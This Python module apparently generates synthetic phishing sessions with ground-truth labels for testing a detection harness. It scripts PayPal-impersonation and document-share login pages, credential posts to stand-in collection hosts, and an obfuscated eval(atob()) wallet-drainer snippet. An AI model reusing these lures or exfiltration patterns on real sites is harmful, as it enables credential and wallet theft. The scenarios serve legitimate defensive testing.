"""Deterministic synthetic sessions with constructed ground truth.

Each scenario kind is a small scripted page state machine driven by a
scripted operator. The same (script, persona, mode) always yields the same
sealed bundle and therefore the same digest.
"""
from __future__ import annotations

import base64
import hashlib
import json
import random
from dataclasses import dataclass, field, replace
from enum import Enum
from pathlib import Path
from typing import Mapping, Optional, Union
from urllib.parse import urlencode

from .bundle import (
    ActionEvent, EvidenceBundle, FrameRecord, NetworkRecord, Persona, ResourceStore, SessionContext,
    assemble_bundle, cap_text, host_of, save_bundle, seal, short_time,
)
from .errors import ScenarioError

KINDS = (
    "benign", "brand_impersonation", "logoless_harvester", "noncrp_crypto",
    "gated_arith", "gated_slider_loop", "progressive_chat", "legit_service_abuse",
)
ALIASES = {
    "brand": "brand_impersonation", "logoless": "logoless_harvester", "harvester": "logoless_harvester",
    "crypto": "noncrp_crypto", "arith": "gated_arith", "slider": "gated_slider_loop",
    "chat": "progressive_chat", "legit": "legit_service_abuse",
}
GATE_KINDS = ("arithmetic", "slider", "chat")
FRAME_STEP_MS = 500
BASE_EPOCH = 1_767_225_600  # 2026-01-01T00:00:00Z
MAX_ARITH_ATTEMPTS = 3
SLIDER_ATTEMPT_MS = 4_000

HARVEST = frozenset({"T1566.002", "T1204.001", "T1056.002", "T1041"})
EXPECTED = {
    "benign": frozenset(),
    "brand_impersonation": HARVEST,
    "logoless_harvester": frozenset({"T1566.002", "T1056.002", "T1041"}),
    "noncrp_crypto": frozenset({"T1566.002", "T1204.001", "T1027"}),
    "gated_arith": HARVEST,
    "gated_slider_loop": HARVEST,
    "progressive_chat": frozenset({"T1566.002", "T1056.002"}),
    "legit_service_abuse": frozenset({"T1566.002", "T1056.002"}),
}
BLOCKED_TECHNIQUES = frozenset({"T1566.002"})


class FailureMode(str, Enum):
    NONE = "none"
    SYMBOL_HALLUCINATION = "symbol_hallucination"
    LITERAL_TRANSCRIPTION = "literal_transcription"

    @classmethod
    def parse(cls, value) -> "FailureMode":
        if isinstance(value, cls):
            return value
        short = {"symbol": cls.SYMBOL_HALLUCINATION, "literal": cls.LITERAL_TRANSCRIPTION}
        try:
            return short.get(value) or cls(value)
        except ValueError:
            raise ScenarioError(f"unknown failure mode {value!r}") from None


@dataclass(frozen=True)
class GateSpec:
    gate_kind: str
    params: dict = field(default_factory=dict)

    def validate(self) -> None:
        p = self.params
        if self.gate_kind == "arithmetic":
            a, b, op = p.get("a"), p.get("b"), p.get("op")
            if not all(isinstance(x, int) and not isinstance(x, bool) and 0 <= x <= 9 for x in (a, b)):
                raise ScenarioError("arithmetic operands must be single digits")
            if op not in ("+", "-"):
                raise ScenarioError(f"arithmetic operator must be + or -, got {op!r}")
        elif self.gate_kind == "slider":
            loops = p.get("loop_count")
            if loops != "pass" and not (isinstance(loops, int) and not isinstance(loops, bool) and loops >= 0):
                raise ScenarioError("slider loop_count must be an integer >= 0 or 'pass'")
        elif self.gate_kind == "chat":
            turns = p.get("turns_before_pii")
            if not (isinstance(turns, int) and turns >= 0):
                raise ScenarioError("chat turns_before_pii must be an integer >= 0")
        else:
            raise ScenarioError(f"unknown gate kind {self.gate_kind!r}")

    def to_dict(self) -> dict:
        return {"gate_kind": self.gate_kind, "params": dict(self.params)}


@dataclass(frozen=True)
class GateResult:
    answer: str
    solved: bool


@dataclass(frozen=True)
class ScenarioScript:
    kind: str
    seed: int = 0
    gates: tuple = ()
    exfil_host: Optional[str] = None
    expected_label: str = ""
    expected_techniques: frozenset = frozenset()

    def validate(self) -> None:
        if self.kind not in KINDS:
            raise ScenarioError(f"unknown scenario kind {self.kind!r}")
        if not isinstance(self.seed, int):
            raise ScenarioError("seed must be an integer")
        for gate in self.gates:
            gate.validate()
        needs = {"gated_arith": "arithmetic", "gated_slider_loop": "slider", "progressive_chat": "chat"}
        wanted = needs.get(self.kind)
        if wanted and not any(g.gate_kind == wanted for g in self.gates):
            raise ScenarioError(f"{self.kind} needs a {wanted} gate")
        if (self.expected_label == "phishing") != bool(self.expected_techniques):
            raise ScenarioError("expected_label is phishing exactly when techniques are expected")
        if self.expected_label not in ("phishing", "benign"):
            raise ScenarioError(f"bad expected_label {self.expected_label!r}")


@dataclass(frozen=True)
class GroundTruth:
    bundle_id: str
    kind: str
    seed: int
    mode: str
    label: str
    techniques: frozenset
    blocked: bool = False

    def to_dict(self) -> dict:
        return {"bundle_id": self.bundle_id, "kind": self.kind, "seed": self.seed, "mode": self.mode,
                "label": self.label, "techniques": sorted(self.techniques), "blocked": self.blocked}

    @classmethod
    def from_dict(cls, data) -> "GroundTruth":
        return cls(data["bundle_id"], data["kind"], int(data["seed"]), data["mode"], data["label"],
                   frozenset(data["techniques"]), bool(data["blocked"]))


# -- gates ---------------------------------------------------------------------

def arithmetic_gate(a: int, op: str, b: int) -> GateSpec:
    return GateSpec("arithmetic", {"a": a, "op": op, "b": b})


def _evaluate(a: int, op: str, b: int) -> int:
    return a + b if op == "+" else a - b


def solve_gate(gate: GateSpec, mode=FailureMode.NONE, attempt: int = 0) -> GateResult:
    """Answer the operator submits and whether the page accepts it.

    ``attempt`` counts prior tries; it only matters for slider loops.
    """
    mode = FailureMode.parse(mode)
    gate.validate()
    if gate.gate_kind != "arithmetic":
        if mode is not FailureMode.NONE:
            raise ScenarioError("failure modes apply only to arithmetic gates")
        if gate.gate_kind == "slider":
            loops = gate.params["loop_count"]
            return GateResult("slide", loops != "pass" and attempt >= loops)
        return GateResult("", True)
    a, op, b = gate.params["a"], gate.params["op"], gate.params["b"]
    if mode is FailureMode.NONE:
        answer = str(_evaluate(a, op, b))
    elif mode is FailureMode.SYMBOL_HALLUCINATION:
        answer = str(_evaluate(a, "-" if op == "+" else "+", b))
    else:
        answer = f"{a}{b}"
    return GateResult(answer, answer == str(_evaluate(a, op, b)))


def _random_arith(rng: random.Random) -> GateSpec:
    op = rng.choice("+-")
    b = rng.randint(1, 9)
    a = rng.randint(b, 9) if op == "-" else rng.randint(0, 9)
    return arithmetic_gate(a, op, b)


# -- scripts -------------------------------------------------------------------

def make_script(kind: str, seed: int = 0, *, loop_count: Union[int, str] = 0, turns: Optional[int] = None,
                gate: Optional[GateSpec] = None) -> ScenarioScript:
    """Default script for ``kind``; gate parameters are drawn from ``seed``."""
    kind = ALIASES.get(kind, kind)
    if kind not in KINDS:
        raise ScenarioError(f"unknown scenario kind {kind!r}")
    rng = random.Random(seed)
    gates: tuple = ()
    if kind == "gated_arith":
        gates = (gate or _random_arith(rng),)
    elif kind == "gated_slider_loop":
        gates = (gate or GateSpec("slider", {"loop_count": loop_count}),)
    elif kind == "progressive_chat":
        gates = (gate or GateSpec("chat", {"turns_before_pii": rng.randint(1, 3) if turns is None else turns}),)
    exfil = {"brand_impersonation": "api.relay-notify.example", "logoless_harvester": "collect.evil.example",
             "gated_arith": "collect.evil.example", "gated_slider_loop": "collect.evil.example"}.get(kind)
    techniques = EXPECTED[kind]
    script = ScenarioScript(kind, seed, gates, exfil, "phishing" if techniques else "benign", techniques)
    script.validate()
    return script


# -- recording -----------------------------------------------------------------

class _Recorder:
    """Accumulates one session on an integer-millisecond clock."""

    def __init__(self, seed: int, persona: Persona, budget_ms: int):
        self.rng = random.Random(f"session:{seed}")
        self.persona = persona
        self.budget_ms = budget_ms
        self.epoch = float(BASE_EPOCH + seed % 1_000_000)
        self.requests: list[dict] = []
        self.actions: list[tuple[int, str, dict, str]] = []
        self.screens: list[tuple[int, str]] = [(0, "blank")]
        self.truncated = False

    def jitter(self, base_ms: int) -> int:
        return base_ms + self.rng.randint(0, 40)

    def token(self, n: int = 8) -> str:
        return "%0*x" % (n, self.rng.getrandbits(4 * n))

    def fetch(self, t: int, method: str, url: str, *, status: int = 200, mime: Optional[str] = "text/html",
              body: Optional[Union[str, bytes]] = None, kind: Optional[str] = None,
              request_body: Optional[str] = None) -> None:
        self.requests.append({"t": t, "method": method, "url": url, "status": status, "mime": mime,
                              "body": body, "kind": kind, "request_body": request_body,
                              "duration": 20 + self.rng.randint(0, 180)})

    def act(self, t: int, kind: str, payload: dict, annotation: str) -> None:
        self.actions.append((t, kind, payload, annotation))

    def screen(self, t: int, label: str) -> None:
        self.screens.append((t, label))

    def build(self, bundle_id: str, context: SessionContext, end_ms: int) -> EvidenceBundle:
        if end_ms > self.budget_ms:
            self.truncated = True
            end_ms = self.budget_ms
        requests = sorted((r for r in self.requests if r["t"] <= end_ms), key=lambda r: r["t"])
        actions = sorted((a for a in self.actions if a[0] <= end_ms), key=lambda a: a[0])
        if self.truncated and not any(a[2].get("event") == "time_budget_exhausted" for a in actions):
            actions.append((end_ms, "note", {"event": "time_budget_exhausted"}, "session cut at the time budget"))

        store = ResourceStore()
        network = []
        for seq, r in enumerate(requests):
            ref = None
            if r["body"] is not None:
                ref = f"net-{seq:04d}-response"
                content = r["body"].encode("utf-8") if isinstance(r["body"], str) else r["body"]
                store.add(ref, r["kind"] or _kind_for(r["mime"]), content)
            body, truncated = cap_text(r["request_body"]) if r["request_body"] is not None else (None, False)
            headers = [("User-Agent", self.persona.user_agent)]
            if body is not None:
                headers.append(("Content-Type", "application/x-www-form-urlencoded"))
            network.append(NetworkRecord(
                seq=seq, started_at=self.epoch + r["t"] / 1000, duration_ms=float(r["duration"]),
                method=r["method"], url=r["url"], host=host_of(r["url"]), status=r["status"],
                request_headers=tuple(headers),
                response_headers=((("Content-Type", r["mime"]),) if r["mime"] else ()),
                request_body=body, request_body_truncated=truncated, response_body_ref=ref,
                mime_type=r["mime"],
            ))

        frames = []
        screens = sorted(self.screens, key=lambda s: s[0])
        for n in range(end_ms // FRAME_STEP_MS + 1):
            t = n * FRAME_STEP_MS
            label = [s for ts, s in screens if ts <= t][-1]
            rid = f"frame-{n:04d}"
            store.add(rid, "image", f"PLACEHOLDER FRAME {n} t={short_time(t / 1000)} screen={label}\n".encode())
            frames.append(FrameRecord(n, t / 1000, rid))

        events = [ActionEvent(t / 1000, kind, payload, note) for t, kind, payload, note in actions]
        bundle = assemble_bundle(bundle_id, network, frames, events, store, context,
                                 epoch_t0=self.epoch, session_end=end_ms / 1000)
        seal(bundle)
        return bundle


def _kind_for(mime: Optional[str]) -> str:
    mime = (mime or "").lower()
    if "html" in mime:
        return "html"
    if "javascript" in mime:
        return "script"
    return "image" if mime.startswith("image/") else "other"


# -- page content --------------------------------------------------------------

def _page(title: str, body: str) -> str:
    return f"<!doctype html><html><head><title>{title}</title></head><body>{body}</body></html>"


LOGIN_FORM = (
    '<form id="signin" method="post"><label>Email or username</label><input name="user" type="text">'
    '<label>Password</label><input name="pass" type="password"><button type="submit">{button}</button></form>'
)

PLAIN_JS = (
    "document.addEventListener('DOMContentLoaded', function () {\n"
    "  var menu = document.querySelector('.menu');\n"
    "  if (menu) { menu.classList.add('ready'); }\n"
    "});\n"
)


def _obfuscated_js(rng: random.Random) -> str:
    inner = ("window.ethereum && window.ethereum.request({method: 'eth_requestAccounts'}).then(function (a) {"
             " fetch('/api/approve', {method: 'POST', body: JSON.stringify({owner: a[0]})}); });")
    salt = bytes(rng.getrandbits(8) for _ in range(96))
    blob = base64.b64encode(inner.encode("utf-8") + b"//" + salt).decode("ascii")
    name = f"_0x{rng.getrandbits(16):04x}"
    return f'var {name}="{blob}";eval(atob({name}));\n'


@dataclass
class _Ctx:
    rec: _Recorder
    persona: Persona
    t: int = 0

    def step(self, ms: int) -> int:
        self.t += self.rec.jitter(ms)
        return self.t


def _open(c: _Ctx, url: str, title: str, html: str) -> None:
    c.rec.act(c.t, "note", {"event": "session_start", "url": url}, f"operator opened the lure target {url}")
    c.rec.fetch(c.t, "GET", url, body=_page(title, html))
    host = host_of(url)
    c.rec.fetch(c.t + 120, "GET", f"https://{host}/static/app.js", mime="application/javascript", body=PLAIN_JS)
    c.rec.fetch(c.t + 180, "GET", f"https://{host}/static/logo.png", mime="image/png", body=b"\x89PNG placeholder")
    c.rec.screen(c.t + 300, title)
    c.step(1500)


def _click(c: _Ctx, label: str, annotation: Optional[str] = None) -> None:
    x, y = 400 + c.rec.rng.randint(0, 200), 300 + c.rec.rng.randint(0, 200)
    c.rec.act(c.t, "click", {"x": x, "y": y, "label": label}, annotation or f"clicked {label!r} at ({x}, {y})")


def _navigate(c: _Ctx, url: str, title: str, html: str) -> None:
    c.rec.act(c.t, "navigate", {"url": url}, f"page navigated to {url}")
    c.rec.fetch(c.t, "GET", url, body=_page(title, html))
    c.rec.screen(c.t + 200, title)


def _type(c: _Ctx, target: str, text: str, shown: Optional[str] = None) -> None:
    c.rec.act(c.t, "type", {"target": target, "text": text}, f"typed {shown or text!r} into {target!r}")


def _harvest(c: _Ctx, post_url: str, *, json_body: bool = False, submit: str = "Sign in") -> None:
    """Type username and password, submit, and let the page post them away."""
    p = c.persona
    c.step(900)
    _type(c, "Email or username", p.username)
    c.step(1400)
    _type(c, "Password", p.password, shown="<persona password>")
    c.step(900)
    _click(c, submit)
    c.step(250)
    if json_body:
        body = json.dumps({"u": p.username, "p": p.password, "ua": p.user_agent}, sort_keys=True)
    else:
        body = urlencode({"user": p.username, "pass": p.password})
    c.rec.fetch(c.t, "POST", post_url, status=200, mime="application/json", body='{"ok":true}', kind="other",
                request_body=body)
    c.rec.screen(c.t + 300, "loading spinner")
    c.step(1500)
    c.rec.act(c.t, "note", {"event": "form_submitted"}, "form submitted; page shows a spinner")


# -- scenario bodies -----------------------------------------------------------

def _benign(c: _Ctx, script: ScenarioScript) -> SessionContext:
    tok = c.rec.token()
    url = f"https://www.northwind-bank.com/news/{tok}"
    _open(c, url, "Northwind Bank quarterly update",
          "<h1>Quarterly update</h1><p>Branch hours change on 1 March.</p><a href='/contact'>Contact us</a>")
    c.rec.act(c.t, "scroll", {"dy": 600}, "scrolled down the article")
    c.step(2000)
    c.rec.fetch(c.t, "GET", f"https://www.northwind-bank.com/img/branch-{tok[:4]}.jpg", mime="image/jpeg",
                body=b"\xff\xd8 placeholder")
    c.rec.act(c.t, "scroll", {"dy": 600}, "scrolled to the footer")
    c.step(2000)
    c.rec.act(c.t, "note", {"event": "no_interaction_required"}, "newsletter has no forms; nothing to submit")
    return SessionContext("Your quarterly account update", "Read the latest branch news.",
                          "news@northwind-bank.com", url, c.persona)


def _brand(c: _Ctx, script: ScenarioScript) -> SessionContext:
    tok = c.rec.token()
    host = "paypal.com-account-verify.top"
    url = f"https://{host}/case/{tok}"
    _open(c, url, "PayPal: account limited",
          "<img src='/static/logo.png'><h1>Your account is limited</h1><a id='cta' href='/signin'>Sign in</a>")
    _click(c, "Sign in")
    c.step(300)
    _navigate(c, f"https://{host}/signin?case={tok}", "PayPal: log in", LOGIN_FORM.format(button="Log In"))
    _harvest(c, f"https://{script.exfil_host}/v1/{tok}", json_body=True, submit="Log In")
    return SessionContext("Action required: your account is limited",
                          "We noticed unusual activity. Sign in to restore access.",
                          "service@paypal.com", url, c.persona)


def _logoless(c: _Ctx, script: ScenarioScript) -> SessionContext:
    tok = c.rec.token()
    host = f"docs-{tok[:6]}.share-files.top"
    url = f"https://{host}/view/{tok}"
    _open(c, url, "Shared document",
          "<h2>A document was shared with you</h2><p>Sign in to view.</p>" + LOGIN_FORM.format(button="View document"))
    _harvest(c, f"https://{script.exfil_host}/gate.php?id={tok}", submit="View document")
    return SessionContext("Document shared with you", "Review the attached invoice before Friday.",
                          "no-reply@docshare-mail.com", url, c.persona)


def _crypto(c: _Ctx, script: ScenarioScript) -> SessionContext:
    tok = c.rec.token()
    host = f"claim-{tok[:5]}.pages.dev"
    url = f"https://{host}/"
    _open(c, url, "Claim your airdrop", "<h1>$UNI airdrop is live</h1><button id='connect'>Connect Wallet</button>")
    _click(c, "Connect Wallet")
    c.step(300)
    _navigate(c, f"https://{host}/connect", "Select a wallet", "<div class='wallets'>MetaMask WalletConnect</div>")
    c.step(150)
    bucket = f"pub-{c.rec.token(16)}.r2.dev"
    c.rec.fetch(c.t, "GET", f"https://{bucket}/assets/{tok}.js", mime="application/javascript",
                body=_obfuscated_js(c.rec.rng))
    c.step(2500)
    c.rec.act(c.t, "note", {"event": "wallet_prompt"}, "page requested a wallet connection; no wallet present")
    return SessionContext("You are eligible for the UNI airdrop", "Claim before the snapshot closes.",
                          "rewards@uniswap-airdrop.com", url, c.persona)


def _post_gate(c: _Ctx, host: str, tok: str, script: ScenarioScript) -> None:
    c.step(800)
    _click(c, "Continue")
    c.step(300)
    _navigate(c, f"https://{host}/login/{tok}", "Sign in", LOGIN_FORM.format(button="Sign in"))
    _harvest(c, f"https://{script.exfil_host}/c.php?s={tok}")


def _blocked(c: _Ctx, why: str) -> None:
    c.step(500)
    c.rec.act(c.t, "note", {"outcome": "blocked", "reason": why}, f"operator gave up: {why}")


def _gated_arith(c: _Ctx, script: ScenarioScript, mode: FailureMode) -> SessionContext:
    tok = c.rec.token()
    host = f"verify-{tok[:6]}.secure-check.xyz"
    url = f"https://{host}/"
    gate = next(g for g in script.gates if g.gate_kind == "arithmetic")
    gate_rng = random.Random(f"gate:{script.seed}")

    def challenge_html(g):
        return (f"<p>Security check: solve {g.params['a']} {g.params['op']} {g.params['b']} =</p>"
                "<input name='captcha'><button>Verify</button>")

    _open(c, url, "Security check", challenge_html(gate))
    for attempt in range(MAX_ARITH_ATTEMPTS):
        result = solve_gate(gate, mode)
        _type(c, "captcha", result.answer)
        c.step(600)
        _click(c, "Verify")
        c.step(200)
        reply = {"ok": result.solved}
        if not result.solved:
            gate = _random_arith(gate_rng)
            reply["challenge"] = f"{gate.params['a']}{gate.params['op']}{gate.params['b']}"
        c.rec.fetch(c.t, "POST", f"https://{host}/captcha/verify", mime="application/json",
                    body=json.dumps(reply, sort_keys=True), kind="other",
                    request_body=urlencode({"answer": result.answer}))
        if result.solved:
            c.rec.screen(c.t + 200, "gate cleared")
            _post_gate(c, host, tok, script)
            break
        c.rec.screen(c.t + 200, f"new challenge {reply['challenge']}")
        c.step(1200)
    else:
        _blocked(c, f"arithmetic gate rejected {MAX_ARITH_ATTEMPTS} answers")
    return SessionContext("Confirm you are human to receive your payment",
                          "A payment is waiting. Complete the quick check.",
                          "billing@payments-notice.com", url, c.persona)


def _gated_slider(c: _Ctx, script: ScenarioScript, mode: FailureMode) -> SessionContext:
    tok = c.rec.token()
    host = f"cdn-{tok[:6]}.human-check.icu"
    url = f"https://{host}/"
    gate = next(g for g in script.gates if g.gate_kind == "slider")
    _open(c, url, "Slide to verify", "<div class='slider'>Slide to complete the puzzle</div>")
    attempt = 0
    while True:
        if c.t + SLIDER_ATTEMPT_MS > c.rec.budget_ms:
            c.t = c.rec.budget_ms
            c.rec.act(c.t, "note", {"outcome": "blocked", "reason": "challenge loop",
                                    "event": "time_budget_exhausted"},
                      f"slider challenge repeated {attempt} times; time budget exhausted")
            break
        result = solve_gate(gate, mode, attempt)
        _click(c, "slider handle", f"dragged the slider handle (attempt {attempt + 1})")
        c.step(900)
        c.rec.fetch(c.t, "POST", f"https://{host}/slider/check", mime="application/json",
                    body=json.dumps({"ok": result.solved}), kind="other",
                    request_body=urlencode({"offset": 180 + attempt, "attempt": attempt + 1}))
        attempt += 1
        if result.solved:
            c.rec.screen(c.t + 200, "gate cleared")
            _post_gate(c, host, tok, script)
            break
        c.rec.screen(c.t + 200, f"another challenge ({attempt})")
        c.step(SLIDER_ATTEMPT_MS - 900)
    return SessionContext("Your mailbox is almost full", "Verify to keep receiving mail.",
                          "postmaster@mail-quota-alerts.com", url, c.persona)


def _chat(c: _Ctx, script: ScenarioScript) -> SessionContext:
    tok = c.rec.token()
    host = f"help-{tok[:5]}.support-desk.live"
    url = f"https://{host}/chat/{tok}"
    turns = next(g for g in script.gates if g.gate_kind == "chat").params["turns_before_pii"]
    _open(c, url, "Support chat", "<div id='chat'>Agent: Hi! How can I help you today?</div>"
                                  "<textarea name='msg'></textarea>")
    small_talk = ["Hello", "I got an email about my parcel", "It says delivery failed", "Ok, thanks"]
    for i in range(turns):
        text = small_talk[i % len(small_talk)]
        _type(c, "chat message", text)
        c.step(400)
        c.rec.act(c.t, "key", {"key": "Enter"}, "pressed Enter to send")
        c.rec.fetch(c.t, "POST", f"https://{host}/chat/send", mime="application/json",
                    body=json.dumps({"reply": "Could you tell me a bit more?"}), kind="other",
                    request_body=urlencode({"msg": text}))
        c.step(2500)
    c.rec.screen(c.t, "agent asks for contact details")
    p = c.persona
    for label, value in (("chat message", p.full_name), ("chat message", p.email), ("chat message", p.phone)):
        _type(c, label, value)
        c.step(400)
        c.rec.act(c.t, "key", {"key": "Enter"}, "pressed Enter to send")
        c.rec.fetch(c.t, "POST", f"https://{host}/chat/send", mime="application/json",
                    body=json.dumps({"reply": "Thanks."}), kind="other", request_body=urlencode({"msg": value}))
        c.step(2000)
    return SessionContext("Delivery failed: contact support", "Chat with an agent to reschedule.",
                          "tracking@parcel-delivery-status.com", url, c.persona)


def _legit_abuse(c: _Ctx, script: ScenarioScript) -> SessionContext:
    tok = c.rec.token(20)
    url = f"https://docs.google.com/forms/d/e/{tok}/viewform"
    _open(c, url, "Employee benefits enrolment",
          "<form><label>Full name</label><input name='entry.1'><label>Home address</label>"
          "<input name='entry.2'><button>Submit</button></form>")
    p = c.persona
    _type(c, "Full name", p.full_name)
    c.step(1200)
    _type(c, "Home address", p.address)
    c.step(900)
    _click(c, "Submit")
    c.step(200)
    c.rec.fetch(c.t, "POST", f"https://docs.google.com/forms/d/e/{tok}/formResponse", mime="text/html",
                body=_page("Response recorded", "<p>Your response has been recorded.</p>"),
                request_body=urlencode({"entry.1": p.full_name, "entry.2": p.address}))
    c.step(1500)
    c.rec.act(c.t, "note", {"event": "form_submitted"}, "form accepted the response")
    return SessionContext("Benefits enrolment closes Friday", "Update your details in the form.",
                          "hr-team@benefits-portal-update.com", url, c.persona)


_BODIES = {
    "benign": _benign, "brand_impersonation": _brand, "logoless_harvester": _logoless,
    "noncrp_crypto": _crypto, "progressive_chat": _chat, "legit_service_abuse": _legit_abuse,
}


def run_scenario(script: ScenarioScript, persona: Optional[Persona] = None, mode=FailureMode.NONE, *,
                 bundle_id: Optional[str] = None, time_budget_s: float = 60.0) -> tuple[EvidenceBundle, GroundTruth]:
    """Play ``script`` and return the sealed bundle with its ground truth."""
    if not isinstance(script, ScenarioScript):
        raise ScenarioError("run_scenario needs a ScenarioScript")
    script.validate()
    mode = FailureMode.parse(mode)
    persona = persona or Persona()
    if not time_budget_s > 0:
        raise ScenarioError("time budget must be positive")
    rec = _Recorder(script.seed, persona, round(time_budget_s * 1000))
    c = _Ctx(rec, persona)
    if script.kind == "gated_arith":
        context = _gated_arith(c, script, mode)
    elif script.kind == "gated_slider_loop":
        context = _gated_slider(c, script, mode)
    else:
        context = _BODIES[script.kind](c, script)
    context = replace(context, time_budget_s=time_budget_s)
    if bundle_id is None:
        bundle_id = f"{script.kind}-s{script.seed}" + ("" if mode is FailureMode.NONE else f"-{mode.value}")
    bundle = rec.build(bundle_id, context, c.t + 1000)
    blocked = bundle.outcome == "blocked"
    techniques = BLOCKED_TECHNIQUES if blocked else script.expected_techniques
    truth = GroundTruth(bundle_id, script.kind, script.seed, mode.value, script.expected_label,
                        frozenset(techniques), blocked)
    return bundle, truth


# -- corpora -------------------------------------------------------------------

ARITH_MODES = (FailureMode.NONE, FailureMode.SYMBOL_HALLUCINATION, FailureMode.NONE,
               FailureMode.LITERAL_TRANSCRIPTION)
SLIDER_LOOPS = (0, 2, "pass")


def derive_seed(master: int, kind: str, index: int) -> int:
    digest = hashlib.sha256(f"{master}/{kind}/{index}".encode()).digest()
    return int.from_bytes(digest[:4], "big")


def normalize_counts(counts: Mapping[str, int]) -> dict[str, int]:
    out: dict[str, int] = {}
    for name, n in counts.items():
        kind = ALIASES.get(name, name)
        if kind not in KINDS:
            raise ScenarioError(f"unknown scenario kind {name!r}")
        if not isinstance(n, int) or isinstance(n, bool) or n < 0:
            raise ScenarioError(f"count for {name!r} must be a nonnegative integer")
        out[kind] = out.get(kind, 0) + n
    return out


def build_corpus(counts: Mapping[str, int], seed: int = 0, persona: Optional[Persona] = None) -> list:
    """Reproducible corpus of ``(bundle, GroundTruth)`` pairs in canonical kind order."""
    counts = normalize_counts(counts)
    corpus = []
    for kind in KINDS:
        for i in range(counts.get(kind, 0)):
            s = derive_seed(seed, kind, i)
            mode = ARITH_MODES[i % len(ARITH_MODES)] if kind == "gated_arith" else FailureMode.NONE
            script = make_script(kind, s, loop_count=SLIDER_LOOPS[i % len(SLIDER_LOOPS)])
            corpus.append(run_scenario(script, persona, mode, bundle_id=f"{kind}-{i:03d}-s{s}"))
    return corpus


def load_corpus_spec(path) -> tuple[dict, int]:
    """``corpus.v1``: ``{"format": "corpus.v1", "seed": n, "counts": {kind: n}}``."""
    try:
        data = json.loads(Path(path).read_text(encoding="utf-8"))
    except (OSError, json.JSONDecodeError) as exc:
        raise ScenarioError(f"cannot read corpus spec {path}: {exc}") from None
    if not isinstance(data, dict) or data.get("format", "corpus.v1") != "corpus.v1":
        raise ScenarioError("not a corpus.v1 document")
    return normalize_counts(data.get("counts", {})), int(data.get("seed", 0))


def write_corpus(corpus, out_dir) -> Path:
    """Save each bundle under ``out_dir/<bundle_id>`` plus ``truth.tsv`` and ``truth.jsonl``."""
    from .harness import truth_table

    root = Path(out_dir)
    root.mkdir(parents=True, exist_ok=True)
    for bundle, _ in corpus:
        save_bundle(bundle, root / bundle.bundle_id)
    truths = [t for _, t in corpus]
    (root / "truth.tsv").write_text(truth_table((t.bundle_id, t.label, t.blocked) for t in truths),
                                    encoding="utf-8")
    (root / "truth.jsonl").write_text("".join(json.dumps(t.to_dict(), sort_keys=True) + "\n" for t in truths),
                                      encoding="utf-8")
    return root
